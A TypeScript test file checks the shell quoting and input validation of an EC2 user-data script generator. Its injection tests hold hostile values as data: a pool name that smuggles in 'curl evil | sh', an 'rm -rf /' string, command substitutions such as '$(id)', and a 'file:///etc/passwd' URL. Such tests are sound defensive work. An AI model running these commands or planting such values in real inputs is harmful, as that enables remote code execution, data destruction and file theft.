import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { renderUserData, shellQuote, type UserDataInput } from '../../src/nodes/ec2/user-data.ts';
import { hubEndpoint } from '../../src/nodes/provider.ts';
import { UsageError } from '../../src/errors.ts';

const base: UserDataInput = {
  pool: 'ci',
  runId: 'run-1',
  image: '123456789012.dkr.ecr.eu-west-1.amazonaws.com/grid-run-node:0.1.0',
  hub: hubEndpoint('http://10.0.0.5:4444'),
  slots: 2,
  nodePort: 5555,
  maxLifetimeMinutes: 120,
  nodeAddress: 'private',
  region: 'eu-west-1',
  secretParameter: '/grid-run/secret',
};

describe('EC2 user-data', () => {
  it('quotes any string so that bash reads it back unchanged', () => {
    for (const value of ["a'b", '$(touch /tmp/pwned)', '`id`', 'a"b\\c', "'; rm -rf / #", 'line\nbreak', '']) {
      const echoed = execFileSync('bash', ['-c', `printf %s ${shellQuote(value)}`], { encoding: 'utf8' });
      assert.equal(echoed, value);
    }
  });

  it('is valid bash and sets each value once, quoted', () => {
    const script = renderUserData(base);
    execFileSync('bash', ['-n'], { input: script });
    assert.match(script, /^POOL='ci'$/m);
    assert.match(script, /^EVENT_BUS_HOST='10\.0\.0\.5'$/m);
    assert.match(script, /^PUBLISH_PORT='4442'$/m);
    assert.match(script, /^MAX_LIFETIME_MINUTES='120'$/m);
    assert.match(script, /shutdown -h "\+\$MAX_LIFETIME_MINUTES"/);
    assert.match(script, /^SECRET_PARAMETER='\/grid-run\/secret'$/m);
  });

  it('refuses values that could break out of the script', () => {
    const hostile: Partial<UserDataInput>[] = [
      { pool: "x'; curl evil | sh; '" },
      { pool: 'a b' },
      { runId: '$(id)' },
      { image: 'img; reboot' },
      { hub: { ...base.hub, eventBusHost: 'h`id`' } },
      { region: 'eu-west-1; id' },
      { secretParameter: 'p$(id)' },
      { maxLifetimeMinutes: 1.5 },
    ];
    for (const change of hostile) {
      assert.throws(() => renderUserData({ ...base, ...change }), UsageError, JSON.stringify(change));
    }
  });

  it('refuses a hub URL with credentials, a query or another scheme', () => {
    for (const url of ['http://u:p@hub:4444', 'http://hub:4444/?x=$(id)', 'file:///etc/passwd', 'not a url']) {
      assert.throws(() => hubEndpoint(url), UsageError, url);
    }
  });
});
